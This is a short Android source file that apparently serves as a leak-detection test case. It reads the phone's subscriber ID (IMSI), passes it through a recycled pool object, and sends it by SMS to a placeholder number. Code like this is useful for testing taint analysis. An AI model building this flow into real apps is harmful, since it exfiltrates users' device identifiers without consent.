// about       A pool gives the same message out again with its old text.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Letter {
    String text = "blank";
  }

  static class Pool {
    private Letter free;

    Letter obtain() {
      Letter letter = free;
      free = null;
      return letter == null ? new Letter() : letter;
    }

    void recycle(Letter letter) {
      // The old text stays in the letter.
      free = letter;
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Pool pool = new Pool();
    Letter kept = pool.obtain();
    kept.text = phone.getSubscriberId();
    pool.recycle(kept);
    Letter next = pool.obtain();
    SmsManager.getDefault().sendTextMessage("+15550100", null, next.text, null, null);
  }
}
